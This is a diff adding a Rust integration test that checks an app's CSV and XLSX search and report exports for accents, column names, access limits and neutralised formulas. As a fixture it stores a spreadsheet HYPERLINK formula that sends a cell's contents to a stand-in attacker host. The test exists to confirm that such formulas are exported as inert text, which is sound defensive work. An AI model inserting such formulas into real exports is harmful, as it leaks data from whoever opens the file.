@@ -216,6 +216,72 @@ async fn words_that_look_like_formulas_stay_text_in_every_download() {
     assert!(styles.contains("quotePrefix=\"1\""), "the quote is marked as text: {styles}");
 }
 
+/// What Python's csv module or openpyxl reads in a downloaded file.
+fn spreadsheet_reads(name: &str, bytes: &[u8]) -> Value {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join(name);
+    std::fs::write(&path, bytes).unwrap();
+    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/read_spreadsheet.py");
+    let out = std::process::Command::new("python3").arg(&script).arg(&path).output().expect("python3 runs");
+    assert!(out.status.success(), "{} failed: {}", script.display(), String::from_utf8_lossy(&out.stderr));
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn exports_open_in_a_spreadsheet_with_accents_named_columns_and_no_formulas() {
+    let t = TestApp::spawn(Backend::Sqlite).await;
+    let mut lesson = common::lesson("Café handover — Ward A", t.teams["Ward A"], "organisation", "published");
+    lesson["summary"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")");
+    assert_eq!(t.post("alice", "/api/v1/assets", lesson).await.0, StatusCode::CREATED);
+    let private = common::lesson("Ward B's handover rota", t.teams["Ward B"], "team", "published");
+    assert_eq!(t.post("bob", "/api/v1/assets", private).await.0, StatusCode::CREATED);
+    t.settle().await;
+    let get = |path: &str, who: &str| t.client.get(format!("{}{path}", t.base)).bearer_auth(&t.tokens[who]).send();
+
+    // The asset list of a search, as CSV: the mark Excel needs, accents, the formula neutralised.
+    let res = get("/api/v1/search/export.csv?q=handover", "alice").await.unwrap();
+    assert_eq!(res.headers()["content-type"], "text/csv; charset=utf-8");
+    let csv = spreadsheet_reads("knowledge.csv", &res.bytes().await.unwrap());
+    assert_eq!(csv["bom"], true, "{csv}");
+    let rows = csv["rows"].as_array().unwrap();
+    assert_eq!(rows[0][0], "Title");
+    assert_eq!(rows[0].as_array().unwrap().len(), 10, "{csv}");
+    assert_eq!(rows.len(), 2, "only what alice may see: {csv}");
+    assert_eq!(rows[1][0], "Café handover — Ward A");
+    assert_eq!(rows[1][1], "Lesson");
+    assert_eq!(rows[1][3], "Ward A");
+    assert!(rows[1][5].as_str().unwrap().starts_with("'="), "{csv}");
+    assert!(rows[1][9].as_str().unwrap().starts_with("/assets/"), "a link to the asset: {csv}");
+
+    // The same list as a workbook: named columns, dates as dates, text as text.
+    let res = get("/api/v1/search/export.xlsx?q=handover", "alice").await.unwrap();
+    let book = spreadsheet_reads("knowledge.xlsx", &res.bytes().await.unwrap());
+    assert_eq!(book["formulas"], json!([]), "{book}");
+    let sheet = &book["sheets"]["Knowledge"];
+    assert_eq!(sheet[0], json!(["Title", "Type", "Status", "Team", "Owner", "Summary", "Last updated", "Next review", "Review", "Link"]));
+    assert_eq!(sheet[1][0], "Café handover — Ward A");
+    assert_eq!(sheet[1][5], "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "shown as written, as text");
+    assert_eq!(sheet[1][6], Utc::now().date_naive().to_string());
+    assert_eq!(sheet.as_array().unwrap().len(), 2, "{book}");
+    let (status, _) = t.get("alice", "/api/v1/search/export.csv?kind=nonsense").await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
+
+    // The programme report: the mark in its CSV, and sheets whose headers name their columns.
+    let today = Utc::now().date_naive();
+    let res = get(&format!("/api/v1/reports/programme.csv?from={today}&to={today}"), "spec").await.unwrap();
+    let report = spreadsheet_reads("report.csv", &res.bytes().await.unwrap());
+    assert_eq!(report["bom"], true);
+    assert_eq!(report["rows"][0], json!(["Section", "Item", "Detail", "Value"]));
+    let res = get(&format!("/api/v1/reports/programme.xlsx?from={today}&to={today}"), "spec").await.unwrap();
+    let book = spreadsheet_reads("report.xlsx", &res.bytes().await.unwrap());
+    assert_eq!(book["formulas"], json!([]));
+    assert_eq!(book["sheets"]["Period"][0], json!(["From", "To"]));
+    assert_eq!(book["sheets"]["Summary"][0], json!(["Measure", "Value"]));
+    for (name, rows) in book["sheets"].as_object().unwrap() {
+        assert_ne!(rows[0], json!(["Item", "Detail", "Value"]), "{name} names its columns");
+    }
+}
+
 async fn a_version_history_keeps_to_who_could_read_each_version(backend: Backend) {
     let t = TestApp::spawn(backend).await;
     let ward_a = t.teams["Ward A"];
